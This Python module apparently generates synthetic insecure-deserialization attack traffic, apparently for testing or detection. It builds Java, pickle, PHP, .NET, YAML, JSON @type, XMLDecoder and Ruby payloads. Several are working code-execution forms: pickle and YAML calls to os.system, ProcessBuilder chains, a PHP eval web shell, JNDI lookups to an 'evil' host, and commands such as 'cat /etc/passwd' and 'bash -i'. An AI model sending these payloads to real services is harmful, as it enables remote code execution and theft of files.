"""Serialised objects sent to be read back: Java, PHP, Python, .NET, Ruby, YAML, JSON type fields.

Forms after the Java Object Serialization Specification (AC ED 00 05), the PHP manual, pickle's
opcodes, ysoserial's and ysoserial.net's gadget names, and the fastjson and Jackson advisories.
"""

import base64
import random

from traffic.grammars.attacks.pieces import Grammar, Symbols, ident, number

# Tables: as many alternatives to a line as fit.
# fmt: off
_GADGETS = (
    "org.apache.commons.collections.functors.InvokerTransformer", "java.util.HashMap",
    "sun.reflect.annotation.AnnotationInvocationHandler", "java.util.PriorityQueue",
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "java.net.URL",
    "javax.management.BadAttributeValueExpException", "org.hibernate.engine.spi.TypedValue",
    "java.rmi.server.UnicastRemoteObject", "org.springframework.beans.factory.ObjectFactory",
    "com.mchange.v2.c3p0.PoolBackedDataSource", "java.lang.ProcessBuilder", "java.util.Hashtable",
)
_COMMANDS = (
    "id", "whoami", "touch /tmp/x", "ping -c 3 127.0.0.1", "cat /etc/passwd", "bash -i", "calc.exe",
    "nslookup x.oastify.com",
)


def _java(rng: random.Random) -> bytes:
    """The start of a Java stream: magic, object, class descriptor, a few bytes of content."""
    name = rng.choice(_GADGETS).encode()
    tail = rng.choice(_COMMANDS).encode()
    return (
        b"\xac\xed\x00\x05sr\x00"
        + bytes([len(name)])
        + name
        + rng.randbytes(8)
        + b"\x03\x00\x00x"
        + tail
        + rng.randbytes(rng.randint(4, 40))
    )


def _pickle(rng: random.Random) -> bytes:
    module = rng.choice((b"posix", b"os", b"nt", b"subprocess", b"builtins", b"__builtin__"))
    call = rng.choice((b"system", b"popen", b"eval", b"exec", b"check_output"))
    command = rng.choice(_COMMANDS).encode()
    if rng.random() < 0.5:
        return b"c" + module + b"\n" + call + b"\n(S'" + command + b"'\ntR."
    return (
        b"\x80\x04\x95"
        + rng.randbytes(1)
        + b"\x00" * 7
        + b"\x8c"
        + bytes([len(module)])
        + module
        + b"\x94\x8c"
        + bytes([len(call)])
        + call
        + b"\x94\x93\x94\x8c"
        + bytes([len(command)])
        + command
        + b"\x94\x85\x94R\x94."
    )


def _php_object(rng: random.Random) -> str:
    classes = (
        "GuzzleHttp\\Cookie\\FileCookieJar",
        "Monolog\\Handler\\SyslogUdpHandler",
        "Illuminate\\Broadcasting\\PendingBroadcast",
        "Swift_KeyCache_DiskKeyCache",
        "SplFileObject",
        "JDatabaseDriverMysqli",
        "SimplePie",
        "User",
        "Logger",
        "Evil",
        "SoapClient",
        "Example",
        "stdClass",
        "PDO",
        "Zend_Log",
        "Phar",
        ident(rng).title().replace("_", ""),
    )
    name, field, value = (
        rng.choice(classes),
        ident(rng),
        rng.choice(
            (
                *_COMMANDS,
                "/var/www/html/shell.php",
                "phpinfo();",
                "system",
                number(rng),
                "<?php eval($_POST[1]);?>",
            )
        ),
    )
    inner = f's:{len(field)}:"{field}";s:{len(value)}:"{value}";'
    if rng.random() < 0.3:
        inner = f's:{len(field)}:"{field}";O:8:"stdClass":1:{{{inner}}}'
    if rng.random() < 0.3:
        hidden = f"\0*\0{ident(rng)}"
        inner += f's:{len(hidden)}:"{hidden}";' + rng.choice(("i:1;", "b:1;", "N;", "a:0:{}"))
    mark = rng.choice(("O:", "O:", "O:+", "C:"))
    return f'{mark}{len(name)}:"{name}":{rng.randint(1, 3)}:{{{inner}}}'


_SYMBOLS: Symbols = {
    "java": lambda rng: base64.b64encode(_java(rng)).decode(),
    "javahex": lambda rng: _java(rng).hex(),
    "javaraw": lambda rng: _java(rng).decode("latin-1"),
    "pickle": lambda rng: base64.b64encode(_pickle(rng)).decode(),
    "pickleraw": lambda rng: _pickle(rng).decode("latin-1"),
    "phpobj": _php_object,
    "phpb64": lambda rng: base64.b64encode(_php_object(rng).encode()).decode(),
    "cmd": _COMMANDS,
    "jndi": (
        "ldap://‹evil›/‹rnd›", "rmi://‹evil›:1099/‹rnd›", "ldap://‹ip›:‹port›/‹id›",
        "rmi://‹lan›:‹port›/‹rnd›",
    ),
    "jtype": (
        "com.sun.rowset.JdbcRowSetImpl", "org.apache.xbean.propertyeditor.JndiConverter",
        "com.mchange.v2.c3p0.JndiRefForwardingDataSource",
        "org.springframework.context.support.ClassPathXmlApplicationContext",
        "ch.qos.logback.core.db.JNDIConnectionSource", "com.zaxxer.hikari.HikariConfig",
        "java.net.Inet4Address", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
        "java.lang.AutoCloseable", "java.lang.Class", "Lcom.sun.rowset.JdbcRowSetImpl;",
        "org.apache.shiro.jndi.JndiObjectFactory", "br.com.anteros.dbcp.AnterosDBCPConfig",
        "java.net.URL", "[com.sun.rowset.JdbcRowSetImpl",
    ),
    "dn": (
        "System.Windows.Data.ObjectDataProvider, PresentationFramework",
        "System.Configuration.Install.AssemblyInstaller, System.Configuration.Install",
        "System.Diagnostics.Process, System", "System.IO.FileInfo, mscorlib",
        "System.Security.Principal.WindowsIdentity, mscorlib",
        "System.Management.Automation.PSObject, System.Management.Automation",
    ),
}
_GRAMMAR = Grammar(_SYMBOLS)

RULES = _GRAMMAR.rules(
    java_base64=(
        "‹java›", "‹java›", "rO0AB‹Xc¦XN¦XV¦Q¦XQ›‹b64›", "‹id›=‹java›", "‹java›%3d",
        "data=rO0ABXNy‹b64›", '{"‹id›":"‹java›"}',
    ),
    java_bytes=(
        "‹javahex›", "‹javaraw›", "aced0005‹73¦77¦74¦75›‹hex›‹hex›", "ACED0005‹hex›",
        "\\xac\\xed\\x00\\x05‹sr¦ur¦w›‹hex›", "%ac%ed%00%05sr%00‹hex2›‹id›",
        "ac ed 00 05 73 72 ‹hex2› ‹hex2› ‹hex2›",
    ),
    php_object=(
        "‹phpobj›", "‹phpobj›", "a:‹d›:{i:0;‹phpobj›}", "‹val›|‹phpobj›", "‹phpb64›",
        "}__test|‹phpobj›", 'a:1:{s:‹d›:"‹id›";‹phpobj›}', "‹id›=‹phpobj›", "x';‹phpobj›",
    ),
    python_pickle=(
        "‹pickle›", "‹pickleraw›", "c‹os¦posix¦nt›\nsystem\n(S'‹cmd›'\ntR.", "gASV‹b64›",
        "(lp0\nS'‹rnd›'\np1\nacos\nsystem\n(S'‹cmd›'\ntR.",
        "cposix\nsystem\np0\n(S'‹cmd›'\np1\ntp2\nRp3\n.",
        '{"py/object":"__main__.‹id›","py/reduce":[{"py/type":"subprocess.Popen"},'
        '{"py/tuple":["‹cmd›"]}]}',
        '{"py/reduce":[{"py/function":"os.system"},["‹cmd›"]]}',
    ),
    dotnet=(
        "AAEAAAD/////AQAAAAAAAAAMAgAAA‹b64›", "/wEy‹b64›",
        '{"$type":"‹dn›","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Proces'
        's, System"},"MethodParameters":["cmd","/c ‹cmd›"]}',
        '{"$type":"‹dn›","‹id›":"‹rnd›"}', '{"__type":"‹dn›","‹id›":"‹cmd›"}',
        '<ObjectDataProvider MethodName="Start"><ObjectDataProvider.MethodParameters>'
        "<system:String>‹cmd›</system:String></ObjectDataProvider.MethodParameters>"
        "</ObjectDataProvider>",
        '<ResourceDictionary xmlns:d="clr-namespace:System.Diagnostics;assembly=system">'
        '<ObjectDataProvider x:Key="‹abc›" ObjectType="{x:Type d:Process}" MethodName="Start"/>'
        "</ResourceDictionary>",
        "__VIEWSTATE=/wEy‹b64›",
        '<root type="System.Data.Services.Internal.ExpandedWrapper`2[[‹dn›]]"><‹id›/></root>',
        "AAEAAAD/////AQAAAAAAAAAEAQAAA‹b64›",
    ),
    yaml=(
        "!!python/object/apply:‹os.system¦subprocess.check_output¦subprocess.Popen¦time.sleep¦"
        "builtins.eval› [‹'‹cmd›'¦‹d››]",
        "!!python/object/new:‹os.system¦subprocess.Popen¦type› [‹'‹cmd›'¦‹d››]",
        "‹id›: !!python/name:os.system\n‹id›: ‹cmd›",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
        '["‹url›"]]]]',
        "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: ‹jndi›, autoCommit: true}",
        "--- !ruby/object:‹Gem::Installer¦Gem::Requirement¦OpenStruct¦ERB¦ActiveRecord›\n‹id›: "
        "‹cmd›",
        "!!js/function 'function(){‹id›}()'",
        "- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n  '‹rnd›': 1",
        "!<tag:yaml.org,2002:python/object/apply:os.system> ['‹cmd›']",
        "‹id›: !!python/module:‹id›.‹id›",
        "&a !!org.springframework.beans.factory.config.PropertyPathFactoryBean {targetBeanName: "
        '"‹jndi›"}',
        "!php/object '‹phpobj›'",
    ),
    json_type=(
        '{"@type":"‹jtype›","dataSourceName":"‹jndi›","autoCommit":true}',
        '{"‹id›":{"@type":"‹jtype›","‹id›":"‹jndi›"}}',
        '{"@type":"java.lang.Class","val":"‹jtype›"}',
        '["‹jtype›",{"‹jndiName¦resourceRef¦asText¦‹id››":"‹jndi›"}]',
        '{"‹id›":["‹jtype›","‹url›/‹id›.xml"]}', '{"@class":"‹jtype›","‹id›":"‹jndi›"}',
        '{"\\u0040type":"‹jtype›","dataSourceName":"‹jndi›"}',
        '{"@\\x74ype":"‹jtype›","val":"‹rand›.dnslog.cn"}',
        '{{"@type":"java.net.URL","val":"‹url›"}:0}',
        '{"json_class":"‹JSON::GenericObject¦Gem::Installer¦‹id››","‹id›":"‹cmd›"}',
        '{"^o":"Gem::‹Installer¦Requirement›","‹id›":"‹cmd›"}',
        '{"@type":"java.net.Inet4Address","val":"‹rand›.‹evil›"}',
    ),
    xml_objects=(
        '<java version="1.‹d›" class="java.beans.XMLDecoder"><object '
        'class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void '
        'index="0"><string>‹cmd›</string></void></array><void method="start"/></object></java>',
        "<sorted-set><string>‹id›</string><dynamic-proxy><interface>"
        'java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target '
        'class="java.lang.ProcessBuilder"><command><string>‹cmd›</string></command></target>'
        "<action>start</action></handler></dynamic-proxy></sorted-set>",
        "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>‹n›</flags>"
        "</jdk.nashorn.internal.objects.NativeString></entry></map>",
        '<tree-map><entry><string>‹id›</string><void class="java.lang.ProcessBuilder"/></entry>'
        "</tree-map>",
        '<void class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>'
        "‹cmd›</string></void></void>",
        "<linked-hash-set><‹jtype›><dataSource>‹jndi›</dataSource></‹jtype›></linked-hash-set>",
        '<object class="java.lang.ProcessBuilder"><string>‹rnd›</string></object>',
    ),
    ruby=(
        "BAhvO‹i¦j›‹b64›", "BAhvOkBBY3RpdmVTdXBwb3J0‹b64›",
        "\\x04\\bo:‹@¦\\x15›‹ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy¦"
        "Gem::Requirement¦ERB›‹hex2›",
        "\x04\x08o:\x15Gem::Requirement[\x06o:‹rnd›", "BAhjCEdlbV‹b64›",
    ),
)
